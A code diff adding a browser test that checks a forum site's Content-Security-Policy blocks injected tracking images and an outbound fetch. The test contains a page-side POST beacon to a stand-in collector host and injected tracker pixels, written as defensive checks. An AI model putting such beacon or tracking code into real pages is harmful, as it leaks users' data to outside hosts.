@@ -87,6 +87,31 @@ describe('the Content-Security-Policy', () => {
     }
   });
 
+  it('loads images only from the site and GitHub\'s attachment hosts, and connects only to the site', async () => {
+    const built = await readFile(path.join(BUILD_DIR, 'forum/34.html'), 'utf8');
+    expect(built).toMatch(/content="default-src 'self';[^"]* img-src 'self' data: https:\/\/github\.com\/user-attachments\/assets\/ [^"]*; connect-src 'self';/);
+    const images = ['https://github.com/user-attachments/assets/1f2e', 'https://user-images.githubusercontent.com/1/a.png', 'https://tracker.example/pixel.png', 'https://github.com/evil.png'];
+    const tampered = built.replace('</body>', () => `${images.map((src) => `<img src="${src}" alt="">`).join('')}</body>`);
+    const page = await context.newPage();
+    try {
+      const requested: string[] = [];
+      await page.route('https://**/*', (route) => {
+        requested.push(route.request().url());
+        return route.fulfill({body: 'GIF89a', contentType: 'image/gif'});
+      });
+      await page.route(`${baseUrl}/tampered`, (route) => route.fulfill({body: tampered, contentType: 'text/html; charset=utf-8'}));
+      const violations = await visit(page, `${baseUrl}/tampered`, async (p) => {
+        await p.evaluate(() => fetch('https://collector.example/beacon', {method: 'POST', body: 'x'}).catch(() => undefined));
+        await p.waitForTimeout(500);
+      });
+      expect(requested.sort()).toEqual(images.slice(0, 2).sort());
+      expect(violations.filter((violation) => / img-src https:\/\/(tracker\.example|github\.com)/.test(violation))).toHaveLength(2);
+      expect(violations.filter((violation) => violation.includes('connect-src https://collector.example'))).toHaveLength(1);
+    } finally {
+      await page.close();
+    }
+  });
+
   it('lets the ask form go to GitHub without JavaScript (form-action)', async () => {
     const noScript = await browser.newContext({javaScriptEnabled: false});
     try {
